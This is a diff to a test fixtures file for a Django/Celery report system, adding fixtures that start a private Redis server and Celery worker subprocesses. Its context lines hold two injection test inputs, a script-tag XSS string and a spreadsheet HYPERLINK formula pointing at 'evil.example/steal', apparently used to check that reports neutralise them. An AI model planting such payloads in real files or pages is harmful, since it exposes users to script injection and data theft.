@@ -2,12 +2,18 @@
 
 from __future__ import annotations
 
+import os
+import signal
+import subprocess
+import sys
+
 import pytest
 
 from assessments.models import FunctionAssessment
 from assessments.services import assessment_evaluate
 from tests import factories
 from tests.reports import faults as fault_injection
+from tests.reports.processes import ROOT, PrivateRedis, Worker, database_url, free_port, wait_for
 
 SCRIPT = '<script>alert("x")</script>'
 FORMULA = '=HYPERLINK("http://evil.example/steal","click me")'
@@ -76,3 +82,76 @@ def broker_down(monkeypatch):
 
     monkeypatch.setattr(app.conf, "broker_url", "redis://127.0.0.1:1/0")
     return app
+
+
+@pytest.fixture
+def redis_server():
+    server = PrivateRedis(free_port())
+    server.start()
+    yield server
+    if server.process is not None:
+        server.stop()
+
+
+@pytest.fixture
+def worker_factory(settings, tmp_path, transactional_db):
+    """worker_factory(broker_url, beat=False, **env) → a ready Worker; ended at teardown."""
+    started: list[Worker] = []
+
+    def start(broker_url: str, *, beat: bool = False, **extra: str) -> Worker:
+        env = {
+            **os.environ,
+            "DJANGO_SETTINGS_MODULE": "integration.test_settings",
+            "DATABASE_URL": database_url(),
+            "CELERY_BROKER_URL": broker_url,
+            # Nothing in the worker may reach another Redis than the test's own.
+            "REDIS_URL": broker_url if broker_url.startswith("redis://") else "",
+            "VAR_DIR": str(tmp_path / "var"),
+            # Its own local report directory, unlike this (web) process's: files reach the web
+            # side only through the shared report storage (the test database).
+            "REPORTS_ROOT": str(tmp_path / "worker-reports"),
+            **{name: str(value) for name, value in extra.items()},
+        }
+        log = tmp_path / f"worker-{len(started)}.log"
+        command = [
+            sys.executable,
+            "-m",
+            "celery",
+            "-A",
+            "integration",
+            "worker",
+            "--pool=prefork",
+            "--concurrency=1",
+            "--loglevel=INFO",
+            "--without-gossip",
+            "--without-mingle",
+            f"--logfile={log}",
+            "-n",
+            f"reports-test-{os.getpid()}-{len(started)}@%h",
+        ]
+        if beat:  # as `make run` starts it: the sweeper runs on Celery beat's schedule
+            command += ["--beat", f"--schedule={tmp_path / 'celerybeat-schedule'}"]
+        process = subprocess.Popen(
+            command,
+            cwd=ROOT,
+            env=env,
+            start_new_session=True,  # its own process group, so teardown ends all of it
+        )
+        worker = Worker(process, log)
+        started.append(worker)
+        wait_for(
+            lambda: " ready." in worker.log_text(),
+            timeout=60,
+            what=f"the worker to be ready (log: {log})",
+        )
+        return worker
+
+    yield start
+    for worker in started:
+        if worker.process.poll() is None:
+            os.killpg(worker.pid, signal.SIGTERM)
+            try:
+                worker.process.wait(timeout=15)
+            except subprocess.TimeoutExpired:
+                os.killpg(worker.pid, signal.SIGKILL)
+                worker.process.wait(timeout=5)
